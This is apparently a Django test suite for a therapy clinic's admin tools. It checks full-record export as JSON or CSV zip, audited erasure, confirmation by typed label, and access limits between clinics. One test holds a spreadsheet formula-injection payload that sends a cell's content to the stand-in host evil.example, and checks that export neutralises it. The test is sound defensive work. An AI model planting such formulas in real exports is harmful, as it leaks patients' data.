"""Clinic admins export a client's whole record and erase it; both are audited."""

import csv
import io
import json
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from knox.models import AuthToken

from clients import records
from clients.models import CheckIn, Client, Completion
from clients.safety.models import FollowUp, SafetyPlan
from clients.safety.plans import safety_plan_save
from clinic.models import AuditEvent, Session, User
from reports.models import WeeklySummary
from tests import factories

NOTE = "the night I found the other phone"
REFLECTION = "writing the unsent letter helped a little"
PLAN = "call my brother before midnight"
FOLLOW_UP = "spoke by phone, agreed to use the plan tonight"


@pytest.fixture
def clinic_admin(clinic):
    return factories.ClinicAdminFactory(clinic=clinic)


@pytest.fixture
def full_record(client_record):
    check_in = factories.CheckInFactory(client=client_record, note=NOTE, safety_concern=True)
    factories.CheckInEmotionFactory(check_in=check_in)
    assignment = factories.AssignmentFactory(client=client_record)
    factories.CompletionFactory(assignment=assignment, reflection=REFLECTION)
    alert = factories.AlertFactory(client=client_record, check_in=check_in)
    therapist_user = client_record.primary_therapist.user
    FollowUp.objects.create(alert=alert, by=therapist_user, action="contacted", note=FOLLOW_UP)
    safety_plan_save(client=client_record, by=therapist_user, people_to_ask=PLAN)
    factories.SessionFactory(client=client_record, therapist=client_record.primary_therapist)
    WeeklySummary.objects.create(client=client_record, week_start="2026-11-16", digest="A week.")
    AuthToken.objects.create(user=client_record.user)
    return client_record


def export(client, client_id, file_format):
    return client.get(f"/admin/clients/client/{client_id}/export.{file_format}")


@pytest.mark.django_db
def test_json_export_holds_every_table_with_the_free_text_readable(
    client, clinic_admin, full_record
):
    client.force_login(clinic_admin)
    response = export(client, full_record.pk, "json")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    body = json.loads(response.content)
    assert body["client"][0]["label"] == full_record.label
    assert body["account"][0]["email"] == full_record.user.email
    assert body["check_ins"][0]["note"] == NOTE
    assert body["completions"][0]["reflection"] == REFLECTION
    assert body["safety_plan"][0]["people_to_ask"] == PLAN
    assert body["safety_plan"][0]["warning_signs"] == ""
    assert body["follow_ups"][0]["note"] == FOLLOW_UP
    assert body["follow_ups"][0]["action"] == "contacted"
    for table in ("sessions", "assignments", "check_in_emotions", "alerts", "weekly_summaries"):
        assert len(body[table]) == 1, table
    event = AuditEvent.objects.get(action="export")
    assert (event.actor_id, event.object_type, event.client_id) == (
        clinic_admin.pk,
        "client",
        full_record.pk,
    )


@pytest.mark.django_db
def test_zip_export_has_one_csv_per_table(client, clinic_admin, full_record):
    client.force_login(clinic_admin)
    response = export(client, full_record.pk, "zip")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert set(archive.namelist()) >= {"client.csv", "check_ins.csv", "completions.csv"}
    check_ins = list(csv.DictReader(io.StringIO(archive.read("check_ins.csv").decode())))
    assert check_ins[0]["note"] == NOTE
    plan = list(csv.DictReader(io.StringIO(archive.read("safety_plan.csv").decode())))
    assert plan[0]["people_to_ask"] == PLAN
    follow_ups = list(csv.DictReader(io.StringIO(archive.read("follow_ups.csv").decode())))
    assert follow_ups[0]["note"] == FOLLOW_UP
    assert (
        json.loads(
            list(csv.DictReader(io.StringIO(archive.read("client.csv").decode())))[0]["focus_areas"]
        )
        == full_record.focus_areas
    )
    assert AuditEvent.objects.filter(action="export", object_type="client").count() == 1


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["json", "zip"])
def test_another_clinics_admin_and_therapists_cannot_export(
    client, full_record, other_clinic, file_format
):
    client.force_login(factories.ClinicAdminFactory(clinic=other_clinic))
    assert export(client, full_record.pk, file_format).status_code == 404
    client.force_login(full_record.primary_therapist.user)  # not an admin user at all
    assert export(client, full_record.pk, file_format).status_code == 302  # to the admin login
    assert not AuditEvent.objects.filter(action="export").exists()


@pytest.mark.django_db
def test_erasure_needs_the_label_typed(client, clinic_admin, full_record):
    client.force_login(clinic_admin)
    url = f"/admin/clients/client/{full_record.pk}/erase/"
    assert client.get(url).status_code == 200
    response = client.post(url, {"confirm_label": "someone else"})
    assert response.status_code == 200
    assert "nothing was erased" in response.content.decode()
    assert Client.objects.filter(pk=full_record.pk).exists()


@pytest.mark.django_db
def test_erasure_removes_the_record_and_the_account_and_keeps_only_ids(
    client, clinic_admin, full_record
):
    client.force_login(clinic_admin)
    user_id, email = full_record.user_id, full_record.user.email
    response = client.post(
        f"/admin/clients/client/{full_record.pk}/erase/", {"confirm_label": full_record.label}
    )
    assert response.status_code == 302

    assert not Client.objects.filter(pk=full_record.pk).exists()
    assert not User.objects.filter(pk=user_id).exists()
    assert not AuthToken.objects.filter(user_id=user_id).exists()
    for model in (CheckIn, Completion, Session, WeeklySummary, FollowUp, SafetyPlan):
        assert not model.objects.exists(), model
    with connection.cursor() as cursor:
        cursor.execute("SELECT COUNT(*) FROM clients_checkinemotion")
        assert cursor.fetchone()[0] == 0

    erase = AuditEvent.objects.get(action="erase")
    assert (erase.actor_id, erase.client_id, erase.object_ids) == (
        clinic_admin.pk,
        full_record.pk,
        [full_record.pk],
    )
    # The trail of the client's own writes outlives them, as ids.
    assert AuditEvent.objects.filter(client_id=full_record.pk, action="delete").exists()
    deleted = set(
        AuditEvent.objects.filter(client_id=full_record.pk, action="delete").values_list(
            "object_type", flat=True
        )
    )
    assert {"followup", "safetyplan", "alert", "checkin"} <= deleted
    trail = json.dumps(list(AuditEvent.objects.values()), default=str)
    assert email not in trail and NOTE not in trail
    assert PLAN not in trail and FOLLOW_UP not in trail


@pytest.mark.django_db
def test_another_clinics_admin_cannot_erase(client, full_record, other_clinic):
    client.force_login(factories.ClinicAdminFactory(clinic=other_clinic))
    url = f"/admin/clients/client/{full_record.pk}/erase/"
    assert client.post(url, {"confirm_label": full_record.label}).status_code == 404
    assert Client.objects.filter(pk=full_record.pk).exists()


@pytest.mark.django_db
def test_the_plain_admin_delete_is_not_offered(client, clinic_admin, full_record):
    client.force_login(clinic_admin)
    response = client.post(f"/admin/clients/client/{full_record.pk}/delete/", {"post": "yes"})
    assert response.status_code == 403
    assert Client.objects.filter(pk=full_record.pk).exists()


@pytest.mark.django_db
def test_a_client_can_only_be_linked_to_a_client_login(client, clinic_admin, clinic):
    client.force_login(clinic_admin)
    form = client.get("/admin/clients/client/add/").context["adminform"].form
    roles = set(form.fields["user"].queryset.values_list("role", flat=True))
    assert roles <= {"client"}
    staff = factories.TherapistFactory(clinic=clinic)
    record = Client(clinic=clinic, user=staff.user, primary_therapist=staff, label="Wrong link")
    with pytest.raises(ValidationError) as error:
        record.full_clean()
    assert "user" in error.value.message_dict


@pytest.mark.django_db
def test_erasing_a_record_linked_to_a_staff_login_keeps_that_login(clinic_admin, clinic, rf):
    staff_user = factories.ClinicAdminFactory(clinic=clinic)
    therapist = factories.TherapistFactory(clinic=clinic)
    record = Client.objects.create(
        clinic=clinic, user=staff_user, primary_therapist=therapist, label="Linked by mistake"
    )
    request = rf.post("/")
    request.user = clinic_admin
    records.client_erase(client=record, request=request)
    assert not Client.objects.filter(pk=record.pk).exists()
    assert User.objects.filter(pk=staff_user.pk).exists()


@pytest.mark.django_db
def test_a_formula_in_a_note_is_exported_as_text(client, clinic_admin, client_record):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    factories.CheckInFactory(client=client_record, note=formula)
    client.force_login(clinic_admin)
    archive = zipfile.ZipFile(io.BytesIO(export(client, client_record.pk, "zip").content))
    check_ins = list(csv.DictReader(io.StringIO(archive.read("check_ins.csv").decode())))
    assert check_ins[0]["note"] == "'" + formula
    assert check_ins[0]["distress"] == "5"  # numbers stay numbers


@pytest.mark.django_db
def test_erasure_also_clears_the_admins_history_and_sign_in_records(
    client, clinic_admin, full_record
):
    from axes.models import AccessAttempt
    from django.contrib.admin.models import CHANGE, LogEntry
    from django.contrib.contenttypes.models import ContentType

    label, email = full_record.label, full_record.user.email
    for obj in (full_record, full_record.user):
        LogEntry.objects.create(
            user=clinic_admin,
            content_type=ContentType.objects.get_for_model(obj),
            object_id=str(obj.pk),
            object_repr=str(obj),
            action_flag=CHANGE,
        )
    AccessAttempt.objects.create(
        username=email.upper(), ip_address="127.0.0.1", user_agent="x", failures_since_start=1
    )
    client.force_login(clinic_admin)
    client.post(f"/admin/clients/client/{full_record.pk}/erase/", {"confirm_label": label})
    assert not LogEntry.objects.exists()  # both entries named the client
    assert not AccessAttempt.objects.filter(username__iexact=email).exists()


@pytest.mark.django_db
@pytest.mark.parametrize("check_ins", [2, 40])
def test_erasure_work_does_not_grow_with_the_record(
    rf, clinic_admin, client_record, check_ins, django_assert_max_num_queries
):
    therapist_user = client_record.primary_therapist.user
    for check_in in factories.CheckInFactory.create_batch(check_ins, client=client_record):
        factories.CheckInEmotionFactory(check_in=check_in)
        alert = factories.AlertFactory(client=client_record, check_in=check_in)
        FollowUp.objects.create(alert=alert, by=therapist_user, action="contacted")
    safety_plan_save(client=client_record, by=therapist_user, warning_signs="Not sleeping")
    request = rf.post("/")
    request.user = clinic_admin
    client_id = client_record.pk
    # The same with 2 check-ins or with 40, each with an alert and a follow-up, and a safety plan
    # (measure schedules and responses, even none, add their look-ups and link clearing;
    # EMDR targets, records and log entries add theirs: 70; the login's calendar feed, 71;
    # the reminder choices of the login and the therapist's plan for the client, 74)
    with django_assert_max_num_queries(74):
        records.client_erase(client=client_record, request=request)
    deletes = AuditEvent.objects.filter(action="delete", client_id=client_id)
    by_kind = {event.object_type: len(event.object_ids) for event in deletes}
    assert by_kind["checkin"] == check_ins
    assert by_kind["checkinemotion"] == check_ins
    assert by_kind["followup"] == check_ins
    assert by_kind["safetyplan"] == 1
    assert deletes.count() == len(by_kind)  # one row per kind, not one per record


@pytest.mark.django_db
def test_erasure_takes_the_measures_and_names_them_in_the_trail(rf, clinic_admin, client_record):
    from clients.measures.models import MeasureResponse, MeasureSchedule

    factories.MeasureScheduleFactory(client=client_record)
    response = factories.measure_response(
        client_record, answers=factories.measure_answers("phq9", 1, item_9=2)
    )
    request = rf.post("/")
    request.user = clinic_admin
    records.client_erase(client=client_record, request=request)
    assert not MeasureResponse.objects.exists() and not MeasureSchedule.objects.exists()
    deletes = AuditEvent.objects.filter(action="delete", client_id=response.client_id)
    by_kind = {event.object_type: event.object_ids for event in deletes}
    assert by_kind["measureresponse"] == [response.pk]
    assert by_kind["alert"] == [response.alert_id]
    assert len(by_kind["measureschedule"]) == 1
